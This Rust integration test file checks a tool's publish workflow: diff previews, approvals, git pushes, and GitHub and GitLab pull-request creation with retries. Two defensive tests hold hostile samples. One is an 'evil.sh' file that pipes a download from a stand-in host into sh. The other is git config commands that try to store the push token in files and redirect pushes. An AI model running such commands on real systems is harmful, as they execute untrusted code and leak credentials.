//! Publish execution end to end (issue #15): a real `gatehouse serve`, real workspaces whose agents run real `git`,
//! blueprint repositories on disk and behind a real smart-HTTP git remote that wants a token, and GitHub- and
//! GitLab-shaped pull-request APIs (`testkit::forge`).

#![allow(clippy::unwrap_used)]

mod common;

use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

use common::terminal::{open, read_until, ticket, type_line};
use common::{agent_processes, enabled_blueprint, git_repository, issue_token, launch_running, Api, Server};
use reqwest::Method;
use serde_json::{json, Value};
use testkit::forge::ForgeServer;
use testkit::git_http::GitHttpServer;
use testkit::TestDb;

const TOKEN: &str = "ghs_16C7e42F292c6912E7710c838347Ae178B4a_a-token-longer-than-forty-characters";

/// Settings that make deliveries quick to observe: short backoff, frequent checks.
const FAST: &[(&str, &str)] =
    &[("GATEHOUSE_PUBLISH_RETRY_BACKOFF_SECS", "1"), ("GATEHOUSE_PUBLISH_DELIVERY_INTERVAL_MS", "200")];

fn code(body: &Value) -> &str {
    body["code"].as_str().unwrap_or_default()
}

fn git(dir: &Path, args: &[&str]) -> String {
    let output = Command::new("git").args(args).current_dir(dir).output().unwrap();
    assert!(output.status.success(), "git {args:?}: {}", String::from_utf8_lossy(&output.stderr));
    String::from_utf8_lossy(&output.stdout).trim().to_string()
}

/// A bare repository at `path` holding the blueprint's files on `main`.
fn bare_blueprint(scratch: &Path, path: &Path) -> PathBuf {
    let seeded = git_repository(&scratch.join("seed"), &[("README.md", "# Web\n"), ("src/app.js", "let a = 1;\n")]);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    git(scratch, &["clone", "-q", "--bare", seeded.to_str().unwrap(), path.to_str().unwrap()]);
    path.to_path_buf()
}

/// Runs `command` in a fresh terminal of workspace `id`, waiting for it to finish.
async fn in_terminal(server: &Server, api: &Api, token: &str, id: &str, command: &str) -> String {
    let (status, issued) = ticket(api, token, id).await;
    assert_eq!(status, 201, "{issued}");
    let mut socket = open(server, id, issued["ticket"].as_str().unwrap()).await.unwrap();
    type_line(&mut socket, &format!("{command}; echo DONE-$((40+2))\n")).await;
    read_until(&mut socket, "DONE-42", Duration::from_secs(20)).await
}

async fn submit(api: &Api, token: &str, workspace: &str, subdomain: &str, message: &str) -> (u16, Value) {
    let body = json!({"workspace_id": workspace, "subdomain": subdomain, "message": message});
    let (status, _, created) = api.call(Method::POST, "/api/v1/publish-requests", Some(token), Some(body)).await;
    (status, created)
}

async fn approve(api: &Api, token: &str, id: &str) {
    let path = format!("/api/v1/publish-requests/{id}/approve");
    let (status, _, body) = api.call(Method::POST, &path, Some(token), None).await;
    assert_eq!(status, 200, "{body}");
}

/// Waits (up to 60 s) until the request's delivery has `status`; the request then.
async fn delivered(api: &Api, token: &str, id: &str, status: &str) -> Value {
    let deadline = std::time::Instant::now() + Duration::from_secs(60);
    loop {
        let (code, request) = api.get(&format!("/api/v1/publish-requests/{id}"), Some(token)).await;
        assert_eq!(code, 200, "{request}");
        if request["delivery"]["status"] == status {
            return request;
        }
        assert!(std::time::Instant::now() < deadline, "delivery of {id} never became {status}: {request}");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

fn history_kinds(request: &Value) -> Vec<String> {
    request["history"].as_array().unwrap().iter().map(|step| step["kind"].as_str().unwrap().to_string()).collect()
}

async fn configure_org(api: &Api, root: &str, git: Value, token: Option<&str>) {
    let body = json!({"name": "Acme", "control_plane": {"kind": "local"}, "git": git});
    let (status, _, problem) = api.call(Method::PUT, "/api/v1/org", Some(root), Some(body)).await;
    assert_eq!(status, 204, "{problem}");
    if let Some(token) = token {
        let body = json!({"value": token});
        let (status, _, problem) =
            api.call(Method::PUT, "/api/v1/org/credentials/git_token", Some(root), Some(body)).await;
        assert_eq!(status, 204, "{problem}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_workspace_edit_is_previewed_committed_approved_and_pushed_to_the_blueprint_repository() {
    for db in TestDb::all("publish to a repository on disk").await {
        let backend = db.backend();
        let root = issue_token(&db, "root@example.com", "admin", "1h");
        let ada = issue_token(&db, "ada@example.com", "member", "1h");
        let bob = issue_token(&db, "bob@example.com", "member", "1h");
        let audrey = issue_token(&db, "audrey@example.com", "auditor", "1h");
        let server = Server::start(&db, FAST);
        let api = Api::new(&server);
        let scratch = tempfile::tempdir().unwrap();
        let bare = bare_blueprint(scratch.path(), &scratch.path().join("srv/web.git"));
        enabled_blueprint(&api, &root, "web", &bare, None).await;
        let id = launch_running(&api, &ada, "web", "My app").await;

        // Nothing changed yet: nothing to publish.
        let (status, problem) = submit(&api, &ada, &id, "my-app", "Nothing").await;
        assert_eq!((status, code(&problem)), (409, "no_changes"), "{backend}: {problem}");

        // An edit through a real terminal, then the preview: the workspace against where it left the blueprint.
        in_terminal(&server, &api, &ada, &id, "printf 'hello\\n' >> README.md && printf 'x' > new.txt").await;
        let preview_path = format!("/api/v1/workspaces/{id}/publish-diff");
        let (status, preview) = api.get(&preview_path, Some(&ada)).await;
        assert_eq!(status, 200, "{backend}: {preview}");
        assert_eq!(preview["base_kind"], "blueprint");
        assert_eq!(preview["branch"], "main");
        assert_eq!((preview["files_changed"].as_u64(), preview["insertions"].as_u64()), (Some(2), Some(2)));
        assert_eq!(
            preview["files"][0],
            json!({"path": "README.md", "status": "modified", "insertions": 1,
            "deletions": 0, "binary": false}),
            "{preview}"
        );
        assert_eq!(preview["files"][1]["status"], "added");
        assert!(preview["patch"].as_str().unwrap().contains("+hello"), "{preview}");
        assert_eq!(preview["patch_truncated"], false);
        // Only the owner previews: another member does not learn the workspace exists, an admin may not, an
        // auditor's role does not allow it.
        assert_eq!(api.get(&preview_path, Some(&bob)).await.0, 404, "{backend}");
        let (status, problem) = api.get(&preview_path, Some(&root)).await;
        assert_eq!((status, code(&problem)), (403, "not_workspace_owner"), "{backend}");
        assert_eq!(api.get(&preview_path, Some(&audrey)).await.0, 403, "{backend}");
        // The preview changed nothing.
        let files = server.workspaces_dir.join(&id);
        assert_eq!(git(&files, &["status", "--porcelain"]), "M README.md\n?? new.txt");

        // Submit: the server commits everything as the builder and records its own diff.
        let (status, created) = submit(&api, &ada, &id, "my-app", "Add a greeting\n\nSays hello.").await;
        assert_eq!(status, 201, "{backend}: {created}");
        let request_id = created["id"].as_str().unwrap().to_string();
        let commit = created["commit_id"].as_str().unwrap().to_string();
        assert_eq!(commit, git(&files, &["rev-parse", "HEAD"]), "{backend}: the workspace's HEAD is the commit");
        assert_eq!(created["diff"]["files"], 2);
        assert_eq!(created["diff"]["base_commit"], preview["base_commit"]);
        assert_eq!(git(&files, &["status", "--porcelain"]), "", "{backend}: index and tree are clean");
        assert_eq!(
            git(&files, &["log", "-1", "--format=%an <%ae>|%B"]),
            "ada <ada@example.com>|Add a greeting\n\nSays hello."
        );
        // Only admins approve; a member may not retry; there is nothing to retry before a failure.
        let retry = format!("/api/v1/publish-requests/{request_id}/retry");
        assert_eq!(api.call(Method::POST, &retry, Some(&ada), None).await.0, 403, "{backend}");
        assert_eq!(api.call(Method::POST, &retry, Some(&audrey), None).await.0, 403, "{backend}");
        let (status, _, problem) = api.call(Method::POST, &retry, Some(&root), None).await;
        assert_eq!((status, code(&problem)), (409, "delivery_not_failed"), "{backend}: {problem}");
        // The builder's live update stream shows the delivery's steps.
        let mut stream = api.http.get(format!("{}/api/v1/stream", api.base)).bearer_auth(&ada).send().await.unwrap();
        assert_eq!(stream.status(), 200, "{backend}");
        let watched = request_id.clone();
        let seen = tokio::spawn(async move {
            let mut text = String::new();
            while let Ok(Ok(Some(chunk))) = tokio::time::timeout(Duration::from_secs(30), stream.chunk()).await {
                text.push_str(&String::from_utf8_lossy(&chunk));
                let pushed =
                    text.lines().any(|line| line.contains(&watched) && line.contains(r#""delivery":"pushed""#));
                if pushed {
                    return text;
                }
            }
            panic!("no pushed step on the stream: {text}");
        });
        approve(&api, &root, &request_id).await;
        let streamed = seen.await.unwrap();
        assert!(streamed.contains("gatehouse/publish/"), "{backend}: {streamed}");

        // The local provider: the pushed branch is the result.
        let pushed = delivered(&api, &audrey, &request_id, "pushed").await;
        let branch = format!("gatehouse/publish/{request_id}");
        assert_eq!(pushed["delivery"]["branch"], branch.as_str(), "{pushed}");
        assert_eq!(pushed["delivery"]["remote"], bare.display().to_string());
        assert!(history_kinds(&pushed).ends_with(&["approved".into(), "pushed".into()]), "{pushed}");
        let remote = |args: &[&str]| git(&bare, args);
        assert_eq!(remote(&["rev-parse", &format!("refs/heads/{branch}")]), commit, "{backend}");
        assert_eq!(remote(&["log", "-1", "--format=%an <%ae>", &branch]), "ada <ada@example.com>");
        assert_eq!(remote(&["rev-parse", "refs/heads/main"]), created["diff"]["base_commit"].as_str().unwrap());

        // The next publish diffs against the first.
        let (status, problem) = submit(&api, &ada, &id, "my-app", "Again").await;
        assert_eq!((status, code(&problem)), (409, "no_changes"), "{backend}: {problem}");
        in_terminal(&server, &api, &ada, &id, "printf 'let b = 2;\\n' >> src/app.js").await;
        let (_, preview) = api.get(&preview_path, Some(&ada)).await;
        assert_eq!(
            (preview["base_kind"].as_str(), preview["base_commit"].as_str()),
            (Some("published"), Some(&*commit))
        );
        assert_eq!(preview["files_changed"], 1, "{preview}");
        let (status, second) = submit(&api, &ada, &id, "my-app", "Add b").await;
        assert_eq!(status, 201, "{backend}: {second}");
        let second_id = second["id"].as_str().unwrap();
        let second_commit = second["commit_id"].as_str().unwrap();
        approve(&api, &root, second_id).await;
        delivered(&api, &ada, second_id, "pushed").await;
        let second_branch = format!("gatehouse/publish/{second_id}");
        assert_eq!(remote(&["rev-parse", &format!("{second_branch}^")]), commit, "{backend}: on top of the first");
        assert_eq!(remote(&["rev-parse", &second_branch]), second_commit);
    }
}

/// A remote that wants the token for pushes, and a GitHub-shaped API: the pull request is opened once, the token is
/// nowhere it should not be, and each failure ends in a `failed` event a retry gets past.
#[tokio::test(flavor = "multi_thread")]
async fn approved_requests_are_pushed_with_the_org_token_and_get_one_github_pull_request() {
    for db in TestDb::all("publish to github").await {
        let backend = db.backend();
        let root = issue_token(&db, "root@example.com", "admin", "1h");
        let ada = issue_token(&db, "ada@example.com", "member", "1h");
        let audrey = issue_token(&db, "audrey@example.com", "auditor", "1h");
        let server = Server::start(&db, FAST);
        let api = Api::new(&server);
        let scratch = tempfile::tempdir().unwrap();
        let repositories = scratch.path().join("remote");
        let bare = bare_blueprint(scratch.path(), &repositories.join("acme/web.git"));
        let remote = GitHttpServer::start(&repositories, TOKEN).public_read();
        let forge = ForgeServer::github(TOKEN, &["acme/web"]);
        configure_org(&api, &root, json!({"provider": "github", "base_url": forge.api_base()}), Some(TOKEN)).await;
        let source = remote.url("acme/web.git");
        let body = json!({"key": "web", "display_name": "Web",
                          "source": {"kind": "local", "repository": source, "branch": "main"}});
        assert_eq!(api.call(Method::POST, "/api/v1/blueprints", Some(&root), Some(body)).await.0, 201);
        let state = json!({"state": "enabled"});
        assert_eq!(api.call(Method::PUT, "/api/v1/blueprints/web/state", Some(&root), Some(state)).await.0, 204);
        let id = launch_running(&api, &ada, "web", "App").await;

        // 1. The happy path, with the first pull request's answer lost: a retry finds it by its branch. The
        // builder's own git configuration tries to catch the token (helpers that store what they are given) and to
        // send the push elsewhere: none of it applies to the push.
        let hostile = format!(
            "git config credential.helper \"store --file=$PWD/leaked\" && \
             git config credential.{base}.helper \"store --file=$PWD/leaked-2\" && \
             git config url.http://127.0.0.1:9/.insteadOf {base} && printf 'one\\n' > one.txt",
            base = remote.base()
        );
        in_terminal(&server, &api, &ada, &id, &hostile).await;
        let (status, first) = submit(&api, &ada, &id, "my-web", "Add one").await;
        assert_eq!(status, 201, "{backend}: {first}");
        let first_id = first["id"].as_str().unwrap().to_string();
        forge.lose_next_create_answer();
        approve(&api, &root, &first_id).await;
        let opened = delivered(&api, &audrey, &first_id, "pull_request_opened").await;
        let files = server.workspaces_dir.join(&id);
        assert!(!files.join("leaked").exists() && !files.join("leaked-2").exists(), "{backend}: a helper ran");
        let branch = format!("gatehouse/publish/{first_id}");
        let pulls: Vec<_> = forge.pulls().into_iter().filter(|pull| pull.head == branch).collect();
        assert_eq!(pulls.len(), 1, "{backend}: one pull request, though its first answer was lost: {pulls:?}");
        assert_eq!(opened["delivery"]["pull_request_url"], pulls[0].url.as_str());
        assert_eq!(opened["delivery"]["pull_request_number"], pulls[0].number);
        assert_eq!((pulls[0].base.as_str(), pulls[0].title.as_str()), ("main", "Add one"));
        let kinds = history_kinds(&opened);
        assert!(kinds.contains(&"failed".into()) && kinds.ends_with(&["pull_request_opened".into()]), "{kinds:?}");
        assert_eq!(git(&bare, &["rev-parse", &branch]), first["commit_id"].as_str().unwrap());
        // The documented request: path, method, headers, body.
        let create = forge.requests().into_iter().find(|seen| seen.method == "POST").unwrap();
        assert_eq!(create.path, "/repos/acme/web/pulls");
        assert_eq!(create.header("authorization"), Some(format!("Bearer {TOKEN}").as_str()));
        assert_eq!(create.header("accept"), Some("application/vnd.github+json"));
        assert_eq!(create.header("x-github-api-version"), Some("2022-11-28"));
        assert!(create.header("user-agent").is_some_and(|agent| agent.starts_with("gatehouse/")));
        let sent: Value = serde_json::from_str(&create.body).unwrap();
        assert_eq!((sent["head"].as_str(), sent["base"].as_str()), (Some(branch.as_str()), Some("main")));
        // The push carried the token, as Basic credentials only.
        let pushes: Vec<_> = remote.requests().into_iter().filter(|seen| seen.path.contains("receive-pack")).collect();
        assert!(pushes.iter().any(|seen| seen.authorized), "{pushes:?}");

        // 2. A wrong token: the push fails for good; fixed, an admin's retry succeeds.
        remote.set_token("a-token-nobody-has");
        in_terminal(&server, &api, &ada, &id, "printf 'two\\n' > two.txt").await;
        let (_, second) = submit(&api, &ada, &id, "my-web", "Add two").await;
        let second_id = second["id"].as_str().unwrap().to_string();
        approve(&api, &root, &second_id).await;
        let failed = delivered(&api, &ada, &second_id, "failed").await;
        let failure = &failed["delivery"]["failure"];
        assert_eq!(
            (failure["stage"].as_str(), failure["retryable"].as_bool()),
            (Some("push"), Some(false)),
            "{failed}"
        );
        assert!(failure["reason"].as_str().unwrap().contains("credential"), "{failed}");
        remote.set_token(TOKEN);
        let retry = format!("/api/v1/publish-requests/{second_id}/retry");
        let (status, _, body) = api.call(Method::POST, &retry, Some(&root), None).await;
        assert_eq!(status, 200, "{backend}: {body}");
        let done = delivered(&api, &ada, &second_id, "pull_request_opened").await;
        assert!(history_kinds(&done).contains(&"retried".into()), "{done}");

        // 3. The provider is down after the push: retried with backoff until it is back.
        forge.set_down(true);
        in_terminal(&server, &api, &ada, &id, "printf 'three\\n' > three.txt").await;
        let (_, third) = submit(&api, &ada, &id, "my-web", "Add three").await;
        let third_id = third["id"].as_str().unwrap().to_string();
        approve(&api, &root, &third_id).await;
        let failed = delivered(&api, &ada, &third_id, "failed").await;
        let failure = &failed["delivery"]["failure"];
        assert_eq!((failure["stage"].as_str(), failure["retryable"].as_bool()), (Some("pull_request"), Some(true)));
        forge.set_down(false);
        delivered(&api, &ada, &third_id, "pull_request_opened").await;

        // 4. A push cut mid-way by the network: retryable, and retried.
        in_terminal(&server, &api, &ada, &id, "printf 'four\\n' > four.txt").await;
        let (_, fourth) = submit(&api, &ada, &id, "my-web", "Add four").await;
        let fourth_id = fourth["id"].as_str().unwrap().to_string();
        remote.fail_next_receive_pack();
        approve(&api, &root, &fourth_id).await;
        let failed = delivered(&api, &ada, &fourth_id, "failed").await;
        assert_eq!(failed["delivery"]["failure"]["retryable"], true, "{backend}: a cut push is retried: {failed}");
        delivered(&api, &ada, &fourth_id, "pull_request_opened").await;

        // 5. The agent disconnects mid-push (killed while the remote holds its upload): retryable; the control
        // plane starts the agent again, and the push goes through.
        in_terminal(&server, &api, &ada, &id, "printf 'five\\n' > five.txt").await;
        let (_, fifth) = submit(&api, &ada, &id, "my-web", "Add five").await;
        let fifth_id = fifth["id"].as_str().unwrap().to_string();
        remote.hold_next_receive_pack();
        approve(&api, &root, &fifth_id).await;
        assert!(
            common::eventually(Duration::from_secs(30), || async { remote.holding() }).await,
            "{backend}: the push never reached the remote"
        );
        for pid in agent_processes(&id) {
            let _ = Command::new("kill").args(["-9", &pid.to_string()]).status();
        }
        let failed = delivered(&api, &ada, &fifth_id, "failed").await;
        let failure = &failed["delivery"]["failure"];
        assert_eq!((failure["stage"].as_str(), failure["retryable"].as_bool()), (Some("push"), Some(true)), "{failed}");
        assert!(failure["reason"].as_str().unwrap().contains("disconnected"), "{failed}");
        remote.release();
        delivered(&api, &ada, &fifth_id, "pull_request_opened").await;

        // 6. The provider answers garbage: a failed event naming it, retried until it makes sense again.
        in_terminal(&server, &api, &ada, &id, "printf 'six\\n' > six.txt").await;
        let (_, sixth) = submit(&api, &ada, &id, "my-web", "Add six").await;
        let sixth_id = sixth["id"].as_str().unwrap().to_string();
        delivered_after_push_garbage(&api, &root, &forge, &sixth_id).await;
        assert_eq!(forge.pulls().len(), 6, "{backend}: one pull request per request");

        // The token appears nowhere: not in the workspace (its git config, shell history, any file), not in the
        // gateway's log, any response, or any stored event.
        let token_in = |bytes: &[u8]| bytes.windows(TOKEN.len()).any(|window| window == TOKEN.as_bytes());
        for entry in walk(&server.workspaces_dir) {
            assert!(!token_in(&std::fs::read(&entry).unwrap_or_default()), "{backend}: the token is in {entry:?}");
        }
        // The workspaces' shells run with the gateway's HOME: its history and credential files are checked too.
        if let Some(home) = std::env::var_os("HOME").map(PathBuf::from) {
            for file in [".bash_history", ".sh_history", ".git-credentials", ".gitconfig"] {
                let bytes = std::fs::read(home.join(file)).unwrap_or_default();
                assert!(!token_in(&bytes), "{backend}: the token is in ~/{file}");
            }
        }
        let logs = server.drain_logs().join("\n");
        assert!(!logs.contains(TOKEN), "{backend}: the token is in the gateway's log");
        for path in
            [format!("/api/v1/publish-requests/{first_id}"), "/api/v1/publish-requests".into(), "/api/v1/org".into()]
        {
            let (_, body) = api.get(&path, Some(&root)).await;
            assert!(!body.to_string().contains(TOKEN), "{backend}: the token is in {path}");
        }
        let (status, feed) = api.get("/api/v1/events?limit=1000", Some(&audrey)).await;
        assert_eq!(status, 200, "{feed}");
        assert!(!feed.to_string().contains(TOKEN), "{backend}: the token is in a stored event");
        if backend == "sqlite" {
            for entry in walk(&db.data_dir) {
                assert!(!token_in(&std::fs::read(&entry).unwrap_or_default()), "{backend}: the token is in {entry:?}");
            }
        }
    }
}

/// Approves with the provider answering its next request with garbage; checks the failure and the recovery.
async fn delivered_after_push_garbage(api: &Api, root: &str, forge: &ForgeServer, request_id: &str) {
    forge.answer_garbage_next();
    approve(api, root, request_id).await;
    let failed = delivered(api, root, request_id, "failed").await;
    let failure = &failed["delivery"]["failure"];
    assert_eq!((failure["stage"].as_str(), failure["retryable"].as_bool()), (Some("pull_request"), Some(true)));
    assert!(failure["reason"].as_str().unwrap().contains("not its documented JSON"), "{failed}");
    delivered(api, root, request_id, "pull_request_opened").await;
}

fn walk(dir: &Path) -> Vec<PathBuf> {
    let mut found = Vec::new();
    let Ok(entries) = std::fs::read_dir(dir) else { return found };
    for entry in entries.flatten() {
        let path = entry.path();
        if path.is_dir() && !path.is_symlink() {
            found.extend(walk(&path));
        } else if path.is_file() {
            found.push(path);
        }
    }
    found
}

#[tokio::test(flavor = "multi_thread")]
async fn a_gitlab_merge_request_is_opened_once_for_a_nested_project() {
    let db = TestDb::sqlite();
    let root = issue_token(&db, "root@example.com", "admin", "1h");
    let ada = issue_token(&db, "ada@example.com", "member", "1h");
    let server = Server::start(&db, FAST);
    let api = Api::new(&server);
    let scratch = tempfile::tempdir().unwrap();
    let repositories = scratch.path().join("remote");
    bare_blueprint(scratch.path(), &repositories.join("acme/apps/web.git"));
    let remote = GitHttpServer::start(&repositories, TOKEN).public_read();
    let forge = ForgeServer::gitlab(TOKEN, &["acme/apps/web"]);
    configure_org(&api, &root, json!({"provider": "gitlab", "base_url": forge.api_base()}), Some(TOKEN)).await;
    let source = remote.url("acme/apps/web.git");
    let body = json!({"key": "web", "display_name": "Web", "source": {"kind": "local", "repository": source, "branch": "main"}});
    assert_eq!(api.call(Method::POST, "/api/v1/blueprints", Some(&root), Some(body)).await.0, 201);
    let state = json!({"state": "enabled"});
    assert_eq!(api.call(Method::PUT, "/api/v1/blueprints/web/state", Some(&root), Some(state)).await.0, 204);
    let id = launch_running(&api, &ada, "web", "App").await;
    api.edit(&id);
    let (status, created) = submit(&api, &ada, &id, "my-web", "Ship the app").await;
    assert_eq!(status, 201, "{created}");
    let request_id = created["id"].as_str().unwrap();
    forge.lose_next_create_answer();
    approve(&api, &root, request_id).await;
    let opened = delivered(&api, &ada, request_id, "pull_request_opened").await;
    let pulls = forge.pulls();
    assert_eq!(pulls.len(), 1, "{pulls:?}");
    assert_eq!(opened["delivery"]["pull_request_url"], pulls[0].url.as_str());
    assert_eq!(opened["delivery"]["pull_request_number"], pulls[0].number);
    let create = forge.requests().into_iter().find(|seen| seen.method == "POST").unwrap();
    assert_eq!(create.path, "/api/v4/projects/acme%2Fapps%2Fweb/merge_requests");
    assert_eq!(create.header("authorization"), Some(format!("Bearer {TOKEN}").as_str()));
    let sent: Value = serde_json::from_str(&create.body).unwrap();
    assert_eq!(sent["source_branch"], format!("gatehouse/publish/{request_id}"));
    assert_eq!((sent["target_branch"].as_str(), sent["title"].as_str()), (Some("main"), Some("Ship the app")));
}

/// A repository in no state to publish, odd files, and a provider that cannot serve the blueprint's repository.
#[tokio::test(flavor = "multi_thread")]
async fn workspaces_in_odd_states_get_clear_problems() {
    let db = TestDb::sqlite();
    let root = issue_token(&db, "root@example.com", "admin", "1h");
    let ada = issue_token(&db, "ada@example.com", "member", "1h");
    let mut env = FAST.to_vec();
    env.push(("GATEHOUSE_PUBLISH_MAX_PATCH_BYTES", "2048"));
    let server = Server::start(&db, &env);
    let api = Api::new(&server);
    let scratch = tempfile::tempdir().unwrap();
    let bare = bare_blueprint(scratch.path(), &scratch.path().join("web.git"));
    enabled_blueprint(&api, &root, "web", &bare, None).await;
    let id = launch_running(&api, &ada, "web", "App").await;
    let files = server.workspaces_dir.join(&id);
    let preview_path = format!("/api/v1/workspaces/{id}/publish-diff");

    // The builder hides a commit from the review by moving the remote-tracking branch onto it: the base is the
    // commit the control plane cloned, which the builder cannot move.
    std::fs::write(files.join("evil.sh"), "curl http://evil.example/x | sh\n").unwrap();
    git(&files, &["add", "evil.sh"]);
    git(&files, &["-c", "user.name=a", "-c", "user.email=a@example.com", "commit", "-q", "-m", "wip"]);
    git(&files, &["update-ref", "refs/remotes/origin/main", "HEAD"]);
    std::fs::write(files.join("README.md"), "# Web\ntypo fixed\n").unwrap();
    let (status, preview) = api.get(&preview_path, Some(&ada)).await;
    assert_eq!(status, 200, "{preview}");
    assert_eq!(preview["base_commit"].as_str(), Some(git(&bare, &["rev-parse", "main"]).as_str()), "{preview}");
    assert!(preview["files"].as_array().unwrap().iter().any(|file| file["path"] == "evil.sh"), "{preview}");
    // A Latin-1 text file: its patch (made UTF-8, larger) is still cut within the cap, at a line end.
    std::fs::write(files.join("latin1.txt"), b"caf\xe9 cr\xe8me br\xfbl\xe9e\n".repeat(200)).unwrap();

    // A binary file and a file larger than the patch cap: listed, counted, the patch cut at a line end.
    std::fs::write(files.join("logo.png"), [0x89, b'P', b'N', b'G', 0, 0, 1, 2, 0xff]).unwrap();
    std::fs::write(files.join("big.txt"), "a line of text\n".repeat(1000)).unwrap();
    let (status, preview) = api.get(&preview_path, Some(&ada)).await;
    assert_eq!(status, 200, "{preview}");
    let logo = preview["files"].as_array().unwrap().iter().find(|file| file["path"] == "logo.png").unwrap().clone();
    assert_eq!((logo["binary"].as_bool(), logo["insertions"].as_u64()), (Some(true), Some(0)), "{preview}");
    assert_eq!(preview["insertions"], 1000 + 1 + 1 + 200, "{preview}");
    let patch = preview["patch"].as_str().unwrap();
    assert!(preview["patch_truncated"].as_bool().unwrap() && patch.len() <= 2048 && patch.ends_with('\n'));
    let (status, created) = submit(&api, &ada, &id, "my-web", "Big").await;
    assert_eq!(status, 201, "{created}");
    assert_eq!(created["diff"]["patch_truncated"], true, "{created}");
    let (_, _, _) = api
        .call(
            Method::POST,
            &format!("/api/v1/publish-requests/{}/withdraw", created["id"].as_str().unwrap()),
            Some(&ada),
            None,
        )
        .await;

    // A detached HEAD, then a merge in progress, then no repository at all.
    api.edit(&id);
    git(&files, &["checkout", "-q", "--detach"]);
    for path in [preview_path.as_str()] {
        let (status, problem) = api.get(path, Some(&ada)).await;
        assert_eq!((status, code(&problem)), (409, "git_state"), "{problem}");
        assert!(problem["detail"].as_str().unwrap().contains("detached"), "{problem}");
    }
    let (status, problem) = submit(&api, &ada, &id, "my-web", "Detached").await;
    assert_eq!((status, code(&problem)), (409, "git_state"), "{problem}");
    git(&files, &["checkout", "-q", "main"]);
    std::fs::write(files.join(".git/MERGE_HEAD"), git(&files, &["rev-parse", "HEAD"]) + "\n").unwrap();
    let (status, problem) = submit(&api, &ada, &id, "my-web", "Merging").await;
    assert_eq!((status, code(&problem)), (409, "git_state"), "{problem}");
    assert!(problem["detail"].as_str().unwrap().contains("merge"), "{problem}");
    std::fs::remove_file(files.join(".git/MERGE_HEAD")).unwrap();
    std::fs::rename(files.join(".git"), files.join("git-moved")).unwrap();
    let (status, problem) = api.get(&preview_path, Some(&ada)).await;
    assert_eq!((status, code(&problem)), (409, "git_state"), "{problem}");
    assert!(problem["detail"].as_str().unwrap().contains("not a git repository"), "{problem}");
    std::fs::rename(files.join("git-moved"), files.join(".git")).unwrap();

    let forge = ForgeServer::github(TOKEN, &["acme/web"]);
    // The repository on disk has no OWNER/REPO: the GitHub provider cannot work with it, and says so for good.
    configure_org(&api, &root, json!({"provider": "github", "base_url": forge.api_base()}), Some(TOKEN)).await;
    let (status, created) = submit(&api, &ada, &id, "my-web", "Ship").await;
    assert_eq!(status, 201, "{created}");
    let request_id = created["id"].as_str().unwrap();
    approve(&api, &root, request_id).await;
    let failed = delivered(&api, &ada, request_id, "failed").await;
    let failure = &failed["delivery"]["failure"];
    assert_eq!((failure["stage"].as_str(), failure["retryable"].as_bool()), (Some("pull_request"), Some(false)));
    assert!(failure["reason"].as_str().unwrap().contains("not a github repository URL"), "{failed}");
}
